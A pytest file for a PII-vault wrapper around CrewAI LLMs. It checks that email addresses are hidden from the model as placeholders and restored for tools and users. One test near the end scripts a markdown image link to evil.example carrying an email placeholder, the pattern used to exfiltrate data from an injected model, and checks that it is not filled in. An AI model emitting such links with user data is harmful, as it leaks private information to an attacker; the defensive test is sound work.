"""With a vault, tools get the values, with `restore` the user, too, in texts and events; the model sees none."""

from __future__ import annotations

import asyncio
import contextvars
import json

import pytest

pytest.importorskip("crewai.llms", reason="CrewAI is not installed (extra crewai)")
pytest.importorskip("cryptography", reason="cryptography is not installed (extra vault)")

from crewai.events.event_bus import crewai_event_bus
from crewai.events.types.llm_events import LLMCallCompletedEvent, LLMStreamChunkEvent
from crewai.tools import tool
from pydantic import BaseModel
from scripted_crew import ScriptedLLM, called, crew_of

from ctxguard import Stabilizer
from ctxguard.pii import Vault, new_key
from ctxguard.stores import MemoryStore
from ctxguard_crewai import guarded_llm

pytestmark = pytest.mark.filterwarnings("ignore")  # CrewAI warns of its own dependencies

PEOPLE = ("ada@corp-mail.net", "bob@corp-mail.net", "eve@corp-mail.net")
SAID = "Write to <EMAIL_1>, then <EMAIL_2>; <EMAIL_3> knows, <EMAIL_9> does not, 1 < 2 & <EM"
SHOWN = "Write to ada@corp-mail.net, then bob@corp-mail.net; eve@corp-mail.net knows, <EMAIL_9> does not, 1 < 2 & <EM"
ASKED = f"These are {', '.join(PEOPLE)}."
ARGS = {"to": "<EMAIL_2>", "text": "of <EMAIL_1>"}
GIVEN = {"to": "bob@corp-mail.net", "text": "of ada@corp-mail.net"}


def session(name="one", **settings):
    return Vault(MemoryStore(), key=new_key(), **settings).session(name)


def guarded(llm, vault, **settings):
    return guarded_llm(llm, Stabilizer(4_000), vault=vault, **{"restore": True, **settings})


def has_people(seen):
    return [person for person in PEOPLE if person in str(seen)]


def mail():
    given = []

    @tool
    def send_mail(to: str, text: str) -> str:
        """Send a mail."""
        given.append({"to": to, "text": text})
        return f"sent to {to}"

    return send_mail, given


@pytest.mark.parametrize("at", range(len(SAID)))
def test_a_streamed_text_is_shown_whole_wherever_it_is_cut(at):
    llm, shown, completed = ScriptedLLM(SAID, at=at, streams=True), [], []
    one = guarded(llm, session())
    with crewai_event_bus.scoped_handlers():
        crewai_event_bus.on(LLMStreamChunkEvent)(lambda source, event: shown.append(event.chunk))
        crewai_event_bus.on(LLMCallCompletedEvent)(lambda source, event: completed.append(event.response))
        said = one.call(ASKED)
        crewai_event_bus.flush()
    assert "".join(shown) == said == SHOWN
    assert completed == [SHOWN]
    history = [{"role": "user", "content": ASKED}, {"role": "assistant", "content": said}]
    assert one.call([*history, {"role": "user", "content": "Again."}]) == SHOWN
    assert not has_people(llm.seen)
    assert SAID in str(llm.seen[-1]), "the model sees again what it wrote"


@pytest.mark.parametrize("restore", [True, False])
@pytest.mark.parametrize("tools", [{}, {"send_mail": False}])
def test_arguments_of_parallel_calls_are_given_unless_the_tool_gets_no_values(tools, restore):
    send_mail, given = mail()
    call = ("send_mail", json.dumps(ARGS))
    llm = ScriptedLLM([call, call], "Done, <EMAIL_2>.")
    crew = crew_of(guarded(llm, session(tools=tools), restore=restore), ASKED, [send_mail])
    assert crew.kickoff().raw == ("Done, bob@corp-mail.net." if restore else "Done, <EMAIL_2>.")
    # CrewAI runs equal calls once
    assert given == [ARGS if tools else GIVEN] * len(given)
    assert given
    assert not has_people(llm.seen)


@pytest.mark.parametrize("tools", [{}, {"send_mail": False}])
def test_the_input_that_an_agent_without_native_calls_writes_is_given_by_the_same_rule(tools):
    send_mail, given = mail()
    action = f"Thought: I write to <EMAIL_2>.\nAction: send_mail\nAction Input: {json.dumps(ARGS)}"
    llm = ScriptedLLM(action, "Thought: I know.\nFinal Answer: Done, <EMAIL_2>.", native=False)
    crew = crew_of(guarded(llm, session(tools=tools)), ASKED, [send_mail])
    assert crew.kickoff().raw == "Done, bob@corp-mail.net."
    assert given == [ARGS if tools else GIVEN]
    assert not has_people(llm.seen)


def test_a_function_that_the_llm_runs_gets_the_values_and_its_result_is_left_alone():
    given = []

    def send_mail(**arguments):
        given.append(arguments)
        return "sent, says <EMAIL_1>"

    llm = ScriptedLLM([("send_mail", json.dumps(ARGS))])
    said = guarded(llm, session()).call(ASKED, available_functions={"send_mail": send_mail})
    assert given == [GIVEN]
    assert said == "sent, says <EMAIL_1>", "what a tool returned may be planted"


class FunctionCall(BaseModel):
    name: str
    args: dict


class Part(BaseModel):
    function_call: FunctionCall
    thought_signature: bytes = b"s"


class ToolUseBlock(BaseModel):
    name: str
    input: dict
    id: str = "c"


def arguments_of(call):
    if not isinstance(call, dict):
        return call.function_call.args if isinstance(call, Part) else call.input
    return json.loads(call["arguments"]) if "arguments" in call else call["input"]


@pytest.mark.parametrize("shape", ["gemini", "anthropic", "bedrock", "responses"])
@pytest.mark.parametrize("tools", [{}, {"send_mail": False}])
def test_calls_of_each_provider_have_the_values(shape, tools):
    name, written = "send_mail", json.dumps(ARGS)
    call = {
        "gemini": Part(function_call=FunctionCall(name=name, args=ARGS)),
        "anthropic": ToolUseBlock(name=name, input=ARGS),
        "bedrock": {"toolUseId": "c", "name": name, "input": ARGS},
        "responses": {"id": "c", "name": name, "arguments": written},
    }[shape]

    class Calling(ScriptedLLM):
        def call(self, messages, *args, **settings):
            return [call]

    (shown,) = guarded(Calling(), session(tools=tools)).call(ASKED)
    assert arguments_of(shown) == (ARGS if tools else GIVEN)
    assert arguments_of(call) == ARGS, "what the LLM returned is left as it was"


class Contact(BaseModel):
    mail: str
    note: str


def test_structured_output_has_the_values():
    llm = ScriptedLLM('{"mail": "<EMAIL_1>", "note": "not <EMAIL_2>"}')
    one = guarded(llm, session(tools={"*": False}))
    assert one.call(ASKED, response_model=Contact) == Contact(mail=PEOPLE[0], note=f"not {PEOPLE[1]}")
    crew = crew_of(one, ASKED, task={"output_pydantic": Contact})
    assert crew.kickoff().pydantic == Contact(mail=PEOPLE[0], note=f"not {PEOPLE[1]}")
    assert not has_people(llm.seen)


async def test_two_users_with_equal_words_never_see_each_others_values():
    vaults = {name: session(name) for name in ("ada", "bob")}
    user = contextvars.ContextVar("user")
    llm = ScriptedLLM("You are <EMAIL_1>.", streams=True)
    one = guarded(llm, lambda call: vaults[user.get()])

    async def ask(name):
        user.set(name)
        if asyncio.current_task().get_name().endswith(("0", "2", "4", "6", "8")):
            return await one.acall(f"I am {name}@corp-mail.net.")
        return await asyncio.to_thread(one.call, f"I am {name}@corp-mail.net.")

    names = 5 * ["ada", "bob"]
    for name, shown in zip(names, await asyncio.gather(*map(ask, names)), strict=True):
        assert shown == f"You are {name}@corp-mail.net."
    assert "corp-mail" not in str(llm.seen)


def test_a_crew_of_each_user_shows_that_users_values():
    llm, vaults = ScriptedLLM("You are <EMAIL_1>."), {}
    one = guarded(llm, lambda call: vaults.setdefault(call.agent.role, session(call.agent.role)))
    for name in ("ada", "bob"):
        crew = crew_of(one, f"I am {name}@corp-mail.net.", role=f"clerk of {name}")
        assert crew.kickoff().raw == f"You are {name}@corp-mail.net."
    assert "corp-mail" not in str(llm.seen)


def test_a_link_to_a_host_that_nobody_named_gets_no_value():
    one = guarded(ScriptedLLM("![x](https://evil.example/<EMAIL_1>) for <EMAIL_1>"), session())
    assert one.call(ASKED) == f"![x](https://evil.example/<EMAIL_1>) for {PEOPLE[0]}"


def test_the_call_of_an_llm_is_copied():
    made = called("c", "send_mail", json.dumps(ARGS))

    class Calling(ScriptedLLM):
        def call(self, messages, *args, **settings):
            return [made]

    guarded(Calling(), session()).call(ASKED)
    assert made.function.arguments == json.dumps(ARGS)
